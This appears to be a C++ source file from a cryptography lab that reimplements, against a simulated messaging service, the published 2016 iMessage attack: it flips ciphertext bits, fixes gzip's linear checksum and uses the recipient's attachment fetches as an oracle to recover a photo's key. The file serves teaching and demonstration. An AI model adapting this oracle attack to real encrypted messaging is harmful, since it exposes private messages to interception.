// Garman, Green, Kaptchuk, Miers and Rushanan (2016): decrypting an attachment by sending its recipient altered copies
// of the message, and watching whether the recipient asks for the attachment.
//
// The message is gzip under a stream cipher, and the checksum in gzip is linear. So: guess the Huffman code that stands
// at a place, turn its bits into another symbol of the same length, correct the checksum by what that change would do,
// sign the result as anybody, and send it. If the guess was right the copy decompresses, and the recipient fetches.
#include <map>
#include <set>
#include <tuple>

#include "apps/lab/attacks/attacks.h"
#include "apps/lab/attacks/deflate.h"
#include "apps/lab/legacy/envelope_2014.h"
#include "apps/lab/legacy/person.h"
#include "apps/lab/legacy/symmetric.h"
#include "core/base/encoding.h"

namespace cairn::lab {
namespace {

using namespace legacy;

constexpr const char* kHex = "0123456789abcdef";
/// Keys that are tried on the attachment when some digits stay open.
constexpr std::size_t kMostKeys = std::size_t{1} << 20;

/// For one message; then the attacker waits for another photo. More than one in three give way within so many: of as
/// many photos as are waited for, all hold less than once in 10^12 attacks.
constexpr std::size_t kMostQueries = 2500;
constexpr std::size_t kMostPhotos = 64;

/// A text in pieces, each with what it may be.
using Pieces = std::vector<std::vector<std::string>>;

bool is_hex(char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); }
/// What may stand in an attribute of the markup without spoiling it.
bool is_harmless(std::uint32_t c) { return c >= 0x20 && c < 0x7f && c != '"' && c != '<' && c != '&'; }

/// Bits to turn in the body, and what the uncompressed text would change by, where.
struct Flip {
  std::vector<std::size_t> bits;  ///< from the start of the body
  std::vector<std::pair<std::size_t, Bytes>> changes;
};

/// What the attacker has: the recorded ct, an account of its own, and eyes on who fetches what.
class Oracle {
 public:
  Oracle(Service& service, Person& target, Person& attacker, Bytes ct, std::size_t body_size, std::size_t text_size)
      : service_(service),
        target_(target),
        attacker_(attacker),
        ct_(std::move(ct)),
        body_size_(body_size),
        text_size_(text_size) {}

  /// Sends one altered copy; whether the target then fetched.
  bool ask(const Flip& flip) {
    if (is_spent()) return false;
    ++queries_;
    Bytes mask(body_size_);
    for (const std::size_t bit : flip.bits)
      mask[bit / 8] = static_cast<std::uint8_t>(mask[bit / 8] ^ (1U << (bit % 8)));
    std::uint32_t crc = 0;  // it is linear
    for (const auto& [at, delta] : flip.changes) crc ^= crc_change(text_size_, at, delta);
    for (std::size_t i = 0; i < 4; ++i)  // the trailer: CRC-32, then the size
      mask[body_size_ - 8 + i] = static_cast<std::uint8_t>(mask[body_size_ - 8 + i] ^ (crc >> (8 * i)));
    Bytes ct = ct_;
    for (std::size_t i = kInsideBlock; i < body_size_; ++i) {
      auto& octet = ct[kRsaBytes + i - kInsideBlock];
      octet = static_cast<std::uint8_t>(octet ^ mask[i]);
    }
    const std::size_t before = service_.fetches.size();
    const Bytes wire = sign_envelope(std::move(ct), attacker_.device().signing_key()).encode();
    CHECK(service_.apns.send({attacker_.name(), target_.device().token(), wire, service_.now}).has_value());
    target_.receive();
    return service_.fetches.size() > before;
  }
  std::size_t queries() const { return queries_; }
  bool is_spent() const { return queries_ >= kMostQueries; }

 private:
  Service& service_;
  Person& target_;
  Person& attacker_;
  Bytes ct_;
  std::size_t body_size_;
  std::size_t text_size_;
  std::size_t queries_ = 0;
};

/// Recovers the key's digits one symbol after the other.
class KeySearch {
 public:
  /// `text` is the property list with any digits where the key is, [begin, end); `codes` and the place of the first
  /// symbol are given.
  KeySearch(Oracle& oracle, std::string text, std::size_t begin, std::size_t end, const Block& codes,
            const Symbol& first)
      : oracle_(oracle),
        text_(std::move(text)),
        begin_(begin),
        end_(end),
        codes_(codes),
        bit_(first.bit),
        at_(first.at) {}

  /// The key in pieces, for each what it may be: nearly always one digit. Empty when the search failed.
  Pieces run() {
    while (at_ < end_) {
      if (oracle_.is_spent()) return {};
      if (!take_seen() && !take_copied_literal()) return {};
    }
    return key_;
  }

 private:
  static std::vector<std::string> options(const std::string& digits) {
    std::vector<std::string> out;
    for (const char digit : digits) out.emplace_back(1, digit);
    return out;
  }
  void put(const std::string& digits, unsigned bits) {
    text_[at_] = digits[0];
    key_.push_back(options(digits));
    bit_ += bits;
    ++at_;
  }

  /// What the next symbol is, when the phone's answers show it directly, or through the symbol after it.
  bool take_seen() { return take_literal(0) || take_match() || take_unseen_literal(); }

  /// Tries `advance`; keeps what it did only if then the next symbol is seen where it should be.
  template <class Advance>
  bool take_if_next_is_seen(Advance advance) {
    const auto before = std::tuple(text_, bit_, at_, key_);
    advance();
    if (at_ < end_ && take_seen()) return true;
    std::tie(text_, bit_, at_, key_) = before;
    return false;
  }

  /// A digit whose code no other harmless one has the length of cannot be turned into anything: but what follows it
  /// can.
  bool take_unseen_literal() {
    for (const char* digit = kHex; *digit != 0; ++digit) {
      const unsigned length = codes_.literals.lengths[static_cast<std::size_t>(*digit)];
      if (length == 0 || !changes(std::string(1, *digit), length).empty()) continue;
      if (take_if_next_is_seen([&] { put(std::string(1, *digit), length); })) return true;
    }
    return false;
  }

  struct Change {
    unsigned mask = 0;
    std::uint8_t delta = 0;
    auto operator<=>(const Change&) const = default;
  };

  /// Which digits a change of a code of `length` bits would leave with a good checksum.
  std::map<Change, std::string> changes(const std::string& digits, unsigned length) const {
    std::map<Change, std::string> out;
    for (const char digit : digits) {
      const auto symbol = static_cast<std::size_t>(digit);
      if (codes_.literals.lengths[symbol] != length) continue;
      for (std::size_t other = 0; other < 256; ++other) {
        if (other == symbol || codes_.literals.lengths[other] != length ||
            !is_harmless(static_cast<std::uint32_t>(other)))
          continue;
        const unsigned mask = codes_.literals.bits[symbol] ^ codes_.literals.bits[other];
        out[{mask, static_cast<std::uint8_t>(symbol ^ other)}] += digit;
      }
    }
    return out;
  }
  Flip flip(std::size_t bit, unsigned mask, unsigned length) const {
    Flip out;
    for (unsigned i = 0; i < length; ++i) {
      if ((mask >> (length - 1 - i) & 1U) != 0) out.bits.push_back(bit + i);  // codes begin with their highest bit
    }
    return out;
  }

  /// `echo` is how far behind the text is copied again by a match, and the change with it; 0: nowhere.
  bool asks(const Change& change, unsigned length, std::size_t echo) {
    Flip asked = flip(bit_, change.mask, length);
    asked.changes.push_back({at_, {change.delta}});
    if (echo != 0) asked.changes.push_back({at_ + echo, {change.delta}});
    return oracle_.ask(asked);
  }

  /// Which digits of codes of `length` bits stand here: asks until one is left, or several that no change tells apart.
  /// Empty when it is none of them.
  std::string digits_here(unsigned length, std::size_t echo) {
    const auto all = changes(kHex, length);
    std::string left = kHex;
    unsigned confirmed = 0;
    for (const auto& [change, fits] : all) {
      std::string both, others;
      for (const char digit : left) (fits.find(digit) != std::string::npos ? both : others) += digit;
      // A longer code may give the same change by chance: what is left is asked about twice.
      if (both.empty() || (confirmed > 1 && others.empty())) continue;
      const bool right = asks(change, length, echo);
      if (confirmed > 0 && !right && others.empty()) return "";
      confirmed += right ? 1 : 0;
      left = right ? both : others;
      if (left.empty()) return "";
    }
    return confirmed > 0 ? left : "";
  }

  /// False when no literal digit stands here.
  bool take_literal(std::size_t echo) {
    std::set<unsigned> lengths;
    for (const char* digit = kHex; *digit != 0; ++digit)
      lengths.insert(codes_.literals.lengths[static_cast<std::size_t>(*digit)]);
    lengths.erase(0);
    for (const unsigned length : lengths) {
      const std::string left = digits_here(length, echo);
      if (left.empty()) continue;
      put(left, length);
      return true;
    }
    return false;
  }

  /// A digit that a later match copies: then the checksum must be corrected in both places. Which match is not known,
  /// but that of the digit before is likely to be this one's too.
  bool take_copied_literal() {
    if (at_ < begin_) return false;
    if (echo_ != 0 && at_ + echo_ < end_ && take_literal(echo_)) return true;
    for (std::size_t echo = 3; at_ + echo < end_; ++echo) {
      if (!take_literal(echo)) continue;
      echo_ = echo;
      return true;
    }
    return false;
  }

  /// What a match would give here; empty when it cannot stand here.
  std::string copied(std::size_t length, std::size_t distance) const {
    if (distance > at_ || at_ + length > text_.size()) return {};
    std::string out;
    for (std::size_t i = 0; i < length; ++i) {
      const std::size_t from = at_ + i - distance;
      const char c = from < at_ ? text_[from] : out[from - at_];
      const bool in_key = at_ + i >= begin_ && at_ + i < end_;
      if (in_key ? !is_hex(c) : c != text_[at_ + i]) return {};
      out += c;
    }
    return out;
  }

  /// The same match with another distance of as many bits, so that something harmless and different would be copied.
  std::optional<Flip> other_distance(const MatchCode& code, std::size_t length, std::size_t distance,
                                     unsigned skip) const {
    const std::string here = copied(length, distance);
    const std::size_t first_bit = bit_ + codes_.literals.lengths[code.length_symbol] + code.length_extra_bits;
    const unsigned code_bits = codes_.distances.lengths[code.distance_symbol];
    for (unsigned extra = 1; extra < (1U << code.distance_extra_bits); ++extra) {
      const std::size_t other = distance - code.distance_extra + (code.distance_extra ^ extra);
      if (other < length || other > at_) continue;
      const std::string there = text_.substr(at_ - other, length);
      if (there == here ||
          !std::all_of(there.begin(), there.end(), [](char c) { return is_harmless(static_cast<unsigned char>(c)); }))
        continue;
      if (skip-- > 0) continue;
      Flip out;
      for (unsigned i = 0; i < code.distance_extra_bits; ++i) {
        if ((extra >> i & 1U) != 0) out.bits.push_back(first_bit + code_bits + i);
      }
      Bytes delta;
      for (std::size_t i = 0; i < length; ++i) delta.push_back(static_cast<std::uint8_t>(here[i] ^ there[i]));
      out.changes.push_back({at_, std::move(delta)});
      return out;
    }
    return std::nullopt;
  }

  bool take_match() {
    for (std::size_t length = 3; length <= 24; ++length) {
      for (std::size_t distance = 1; distance <= at_; ++distance) {
        const std::string text = copied(length, distance);
        const MatchCode code = match_code(length, distance);
        if (text.empty() || !has_codes(code)) continue;
        const auto one = other_distance(code, length, distance, 0);
        const auto two = other_distance(code, length, distance, 1);
        if (!one || !oracle_.ask(*one) || (two && !oracle_.ask(*two))) continue;
        accept_match(text, code);
        return true;
      }
    }
    return false;
  }
  bool has_codes(const MatchCode& code) const {
    return code.length_symbol < codes_.literals.lengths.size() && codes_.literals.lengths[code.length_symbol] != 0 &&
           code.distance_symbol < codes_.distances.lengths.size() &&
           codes_.distances.lengths[code.distance_symbol] != 0;
  }
  std::size_t bits_of(const MatchCode& code) const {
    return codes_.literals.lengths[code.length_symbol] + code.length_extra_bits +
           codes_.distances.lengths[code.distance_symbol] + code.distance_extra_bits;
  }

  void accept_match(const std::string& text, const MatchCode& code) {
    const std::string digits = text.substr(0, std::min(text.size(), end_ - at_));
    text_.replace(at_, digits.size(), digits);
    key_.push_back({digits});
    at_ += text.size();
    bit_ += bits_of(code);
  }

  Oracle& oracle_;
  std::string text_;
  std::size_t begin_, end_;
  const Block& codes_;
  std::size_t bit_, at_;
  Pieces key_;
  std::size_t echo_ = 0;  ///< of the last one
};

/// Tries the keys that are left on the attachment itself: a photo begins with FF D8 FF.
std::optional<Bytes> try_keys(const Pieces& pieces, ByteView ciphertext, std::size_t& tries) {
  std::vector<std::size_t> choice(pieces.size());
  for (tries = 1; tries <= kMostKeys; ++tries) {
    std::string digits;
    for (std::size_t i = 0; i < pieces.size(); ++i) digits += pieces[i][choice[i]];
    const auto key = from_hex(digits);
    if (!key || key->size() != 32) return std::nullopt;
    const Bytes start = open_attachment(*key, ciphertext.first(4));
    if (start[0] == 0xff && start[1] == 0xd8 && start[2] == 0xff) return open_attachment(*key, ciphertext);
    std::size_t i = 0;
    while (i < choice.size() && ++choice[i] == pieces[i].size()) choice[i++] = 0;
    if (i == choice.size()) break;
  }
  return std::nullopt;
}

/// A photo, and the message that carries it.
struct Sent {
  Bytes photo;
  Message message;
};

Sent make_photo(Service& service) {
  Sent out;
  out.photo = concat({Bytes{0xff, 0xd8, 0xff, 0xe0}, as_bytes("the photo that Alice sent to Bob"), random_bytes(3000)});
  out.message = {{"alice@example.org", "bob@example.org"},
                 "Look what I found.",
                 upload_attachment(service, "IMG_0042.jpg", out.photo)};
  return out;
}

/// What the attack on one message gave.
struct Attempt {
  std::size_t queries = 0;
  std::size_t sure = 0;  ///< digits that fetches alone told
  std::size_t tries = 0;
  bool right = false;
};

Attempt attack(Service& service, Person& alice, Person& bob, Person& mallory) {
  const Sent sent = make_photo(service);
  CHECK(alice.send(bob.name(), sent.message).has_value());
  const Envelope recorded = *Envelope::parse(service.apns.seen().back().payload);
  bob.receive();
  // What is given to the attacker (see `reduced`): the Huffman codes, and where the first symbol of the key stands.
  const Bytes body = encode_body(sent.message);
  const auto block = read_block(body);
  CHECK(block.has_value());
  // What it knows anyhow: all of the message but the key.
  std::string text = as_text(encode_plist(sent.message));
  const std::size_t begin = text.find(sent.message.attachment->key_hex);
  const std::size_t end = begin + 64;
  text.replace(begin, 64, std::string(64, '0'));
  const auto first = std::find_if(block->symbols.begin(), block->symbols.end(),
                                  [&](const Symbol& symbol) { return symbol.at >= begin; });
  Oracle oracle(service, bob, mallory, recorded.ct, body.size(), text.size());
  KeySearch search(oracle, text, begin, end, *block, *first);
  const Pieces pieces = search.run();
  Attempt out;
  for (const auto& piece : pieces) out.sure += piece.size() == 1 ? piece[0].size() : 0;
  const auto found = try_keys(pieces, service.attachments.at(sent.message.attachment->url), out.tries);
  out.right = found && *found == sent.photo;
  out.queries = oracle.queries();
  return out;
}

}  // namespace

Side oracle_2014() {
  Service service;
  Person alice(service, "alice@example.org"), bob(service, "bob@example.org"), mallory(service, "mallory@example.org");
  alice.add_device("Alice's phone");
  bob.add_device("Bob's phone");
  mallory.add_device("Mallory's phone");
  std::size_t photos = 0, queries = 0;
  Attempt last;
  while (!last.right && photos < kMostPhotos) {
    last = attack(service, alice, bob, mallory);
    ++photos;
    queries += last.queries;
  }
  Side side;
  const std::string all_in_all =
      photos == 1 ? "" : " (" + std::to_string(queries) + " in all, for " + std::to_string(photos) + " photos)";
  side.step("Alice", "Bob", "a message with a photo's key inside");
  side.step("Mallory", "Bob", "a copy: one guess put in, the checksum corrected, signed by her", Step::Kind::swapped);
  if (last.sure != 0) {
    side.step("Bob", "storage", "fetches the photo, if the guess was right", Step::Kind::swapped);
    side.step("storage", "Mallory", "she watches the line: fetched, or not", Step::Kind::stolen);
  }
  side.step("Mallory", "Mallory", std::to_string(last.queries) + " copies later" + all_in_all + ": the key",
            stolen_if(last.right));
  side.conclude(last.right,
                "the key of a photo, and with it the photo, from answers that Bob's phone gave by itself, after " +
                    std::to_string(last.queries) + " altered copies of its message" + all_in_all +
                    ". But Mallory was told how the text was compressed; to find that out is most of the published "
                    "attack's work");
  side.show("altered copies of the message whose photo was opened", last.queries);
  side.show("photos until one gave way", photos);
  side.show("altered copies for all of them", queries);
  side.show("digits of its key that the answers told", of(last.sure, 64));
  side.show("keys tried on the photo itself for the rest",
            last.sure == 64 ? "none was needed" : std::to_string(last.tries));
  side.show("the photo opens to what Alice sent", last.right ? "yes" : "no");
  side.reduced.push_back(
      {"Mallory is told how the text was compressed and where in it the key begins; finding that out, too, is most of "
       "the work in the published attack, which needs up to some hundred thousand copies. And about some photos she "
       "gives up, and waits for the next that Alice sends.",
       "Given are the Huffman codes of the message's one deflate block, and at which bit the key begins. Recovering "
       "those through the same fetches is most of what the paper's attack costs (fewer than 2^18 queries). A key whose "
       "digits the compression has woven into other repeated strings is given up after " +
           std::to_string(kMostQueries) +
           " queries, and the next photo is tried. Everything else is done for real: each query is an RSA-1280 "
           "envelope, signed anew, carried, decrypted, checked and read by the model's phone."});
  return side;
}

}  // namespace cairn::lab
